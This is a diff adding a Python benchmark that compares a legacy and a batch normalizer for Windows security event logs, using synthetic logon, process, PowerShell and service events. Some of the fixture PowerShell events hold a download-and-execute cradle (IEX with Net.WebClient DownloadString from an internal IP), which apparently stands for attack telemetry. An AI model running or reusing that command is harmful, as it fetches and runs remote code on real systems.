@@ -0,0 +1,95 @@
+"""
+Throughput of the batch normalizer vs the previous per-event function.
+
+    python benchmarks/bench_normalize.py
+    python benchmarks/bench_normalize.py --count 500000
+
+Runs both over the same mix of logon, process, PowerShell and System
+messages (fresh copies for each run, since normalization mutates) and
+reports events/s plus how many events got a different IP.
+"""
+import argparse
+import copy
+import os
+import re
+import sys
+import time
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), '..'))
+
+from app.core.event_parser import normalize_events
+
+
+def legacy_normalize_event(evt):
+    """The per-event normalizer this benchmark replaces, kept verbatim for comparison."""
+    msg = evt.get('message') or ''
+    cmd = evt.get('command') or ''
+    ip = None
+    m = re.search(r"\b(\d{1,3}(?:\.\d{1,3}){3})\b", msg)
+    if m:
+        ip = m.group(1)
+    evt['ip'] = evt.get('ip') or ip
+    if not cmd and 'powershell' in msg.lower():
+        evt['command'] = msg
+    return evt
+
+
+LOGON_FAILED = (
+    "An account failed to log on.\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t-\r\n"
+    "\tLogon ID:\t\t0x0\r\n\r\nLogon Type:\t\t\t3\r\n\r\nAccount For Which Logon Failed:\r\n"
+    "\tAccount Name:\t\tadmin{i}\r\n\tAccount Domain:\t\tCORP\r\n\r\nFailure Information:\r\n"
+    "\tFailure Reason:\t\tUnknown user name or bad password.\r\n\tStatus:\t\t\t0xC000006D\r\n\r\n"
+    "Process Information:\r\n\tCaller Process ID:\t0x0\r\n\r\nNetwork Information:\r\n"
+    "\tWorkstation Name:\tWS{i}\r\n\tSource Network Address:\t{addr}\r\n\tSource Port:\t\t{port}\r\n\r\n"
+    "Detailed Authentication Information:\r\n\tLogon Process:\t\tNtLmSsp \r\n\tPackage Name (NTLM only):\t-"
+)
+
+
+def make_events(count: int):
+    events = []
+    for i in range(count):
+        kind = i % 5
+        if kind == 0:
+            addr = f"10.{i % 200}.{(i // 200) % 250}.{i % 250}" if i % 3 else f"fe80::{i % 0xffff:x}%12"
+            events.append({'event_id': 4625, 'channel': 'Security', 'ip': None, 'command': None,
+                           'message': LOGON_FAILED.format(i=i % 50, addr=addr, port=50000 + i % 1000)})
+        elif kind == 1:
+            events.append({'event_id': 4625, 'channel': 'Security', 'ip': f"192.168.{i % 250}.7", 'command': None,
+                           'message': f"S-1-0-0 - - 0x0 S-1-0-0 user{i % 50} CORP 0xc000006d %%2313 0xc000006a 3 NtLmSsp"})
+        elif kind == 2:
+            events.append({'event_id': 4688, 'channel': 'Security', 'ip': None, 'command': None,
+                           'message': f"S-1-5-18 HOST$ CORP 0x3e7 0x{i:x} C:\\Windows\\System32\\cmd.exe %%1936 "
+                                      f"0x1a4 /c ver & echo 10.0.19041.{i % 5000}"})
+        elif kind == 3:
+            events.append({'event_id': 4104, 'channel': 'Microsoft-Windows-PowerShell/Operational', 'ip': None,
+                           'command': f"IEX (New-Object Net.WebClient).DownloadString('http://10.9.8.{i % 250}/a')",
+                           'message': "Creating Scriptblock text (1 of 1):\r\nIEX ..."})
+        else:
+            events.append({'event_id': 7036, 'channel': 'System', 'ip': None, 'command': None,
+                           'message': f"The Windows Update service entered the running state. Build 6.3.9600.{i % 20000}"})
+    return events
+
+
+def run(label: str, fn, events):
+    started = time.perf_counter()
+    out = fn(events)
+    elapsed = time.perf_counter() - started
+    print(f"{label:<26} {elapsed:6.2f}s  {len(events) / elapsed:12,.0f} events/s")
+    return out
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.strip().splitlines()[0])
+    parser.add_argument('--count', type=int, default=200_000)
+    args = parser.parse_args()
+
+    base = make_events(args.count)
+    print(f"{args.count:,} events\n")
+    legacy = run("normalize_event (legacy)", lambda ev: [legacy_normalize_event(e) for e in ev], copy.deepcopy(base))
+    batch = run("normalize_events", normalize_events, copy.deepcopy(base))
+    differ = sum(1 for a, b in zip(legacy, batch) if a.get('ip') != b.get('ip'))
+    print(f"\n{differ:,} events with a different ip (legacy misses IPv6 / '-' and picks version strings)")
+
+
+if __name__ == '__main__':
+    main()